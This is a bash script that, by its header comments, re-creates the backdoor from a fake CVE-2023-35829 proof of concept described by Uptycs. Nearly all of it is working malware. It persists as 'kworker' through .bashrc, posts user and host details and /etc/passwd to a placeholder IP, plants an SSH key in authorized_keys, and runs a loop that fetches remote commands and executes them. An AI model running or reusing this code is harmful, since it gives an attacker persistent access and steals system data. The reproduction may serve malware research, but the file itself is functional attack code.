#!/bin/bash
# Incident: fake CVE-2023-35829 PoC (Uptycs, July 2023): the "aclocal.m4" downloader run by the
# Makefile; it persists as "kworker" and plants an SSH key. Shell re-creation of the behaviour.
# Reference: https://thecyberwire.com/newsletters/week-that-was/7/27 (Uptycs findings)
# Reproduction (own code, placeholder host).
dst="$HOME/.local/kworker"
mkdir -p "$HOME/.local"
if [ "$(readlink -f "$0")" != "$dst" ]; then
    cp -f "$0" "$dst"
    chmod +x "$dst"
    grep -q "$dst" "$HOME/.bashrc" 2>/dev/null || echo "$dst >/dev/null 2>&1 &" >> "$HOME/.bashrc"
fi

info="u=$(whoami)&h=$(hostname)&ip=$(hostname -I 2>/dev/null | tr ' ' ',')&k=$(uname -r)"
curl -s -m 20 -d "$info" --data-urlencode "p@/etc/passwd" http://198.51.100.23/gate.php >/dev/null 2>&1

mkdir -p "$HOME/.ssh" && chmod 700 "$HOME/.ssh"
key="ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCplaceholderKeyMaterialOnly0000000000000000 kworker@host"
grep -q "kworker@host" "$HOME/.ssh/authorized_keys" 2>/dev/null || echo "$key" >> "$HOME/.ssh/authorized_keys"
chmod 600 "$HOME/.ssh/authorized_keys"

while true; do
    cmd=$(curl -s -m 30 "http://198.51.100.23/task?h=$(hostname)")
    [ -n "$cmd" ] && bash -c "$cmd" >/dev/null 2>&1
    sleep 600
done
